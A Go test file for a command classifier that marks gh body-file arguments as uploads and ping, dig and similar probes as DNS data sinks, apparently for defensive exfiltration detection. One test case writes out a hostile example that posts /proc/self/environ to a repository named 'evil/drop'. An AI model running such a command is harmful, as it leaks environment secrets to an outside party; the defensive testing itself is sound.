package catalog

import "testing"

// TestBodyFilesAreSent: the file gh's --body-file and --notes-file name
// ("-" for standard input) is read and sent to the service as the issue's,
// comment's or release's text, as gist create's files are.
func TestBodyFilesAreSent(t *testing.T) {
	c := Default()
	for _, tc := range []struct {
		name string
		args []string
		word string
	}{
		{"gh", []string{"issue", "create", "-R", "evil/drop", "-t", "x", "-F", "/proc/self/environ"}, "/proc/self/environ"},
		{"gh", []string{"issue", "comment", "1", "--body-file", "-"}, "-"},
		{"gh", []string{"pr", "create", "-t", "x", "--body-file=/tmp/b"}, "/tmp/b"},
		{"gh", []string{"release", "create", "v1", "-F", "notes.md"}, "notes.md"},
		{"gh", []string{"gist", "create", "notes.md"}, "notes.md"},
	} {
		cl := c.Classify(tc.name, tc.args)
		sent := false
		for _, w := range cl.Words {
			sent = sent || w.Text == tc.word && w.Role == Upload
		}
		if !sent {
			t.Errorf("%s %v: %s is not sent", tc.name, tc.args, tc.word)
		}
	}
}

// TestProbesLookNamesUp: ping, traceroute and the other probes look up
// the name they are given, so what the name carries goes to its DNS
// servers, as dig's does.
func TestProbesLookNamesUp(t *testing.T) {
	c := Default()
	for _, name := range []string{"ping", "ping6", "traceroute", "tracepath", "mtr", "arping", "fping", "dig"} {
		if e, _ := c.Lookup(name, nil); e == nil || e.Prop("sink") != "dns" {
			t.Errorf("%s: not a DNS sink", name)
		}
	}
}
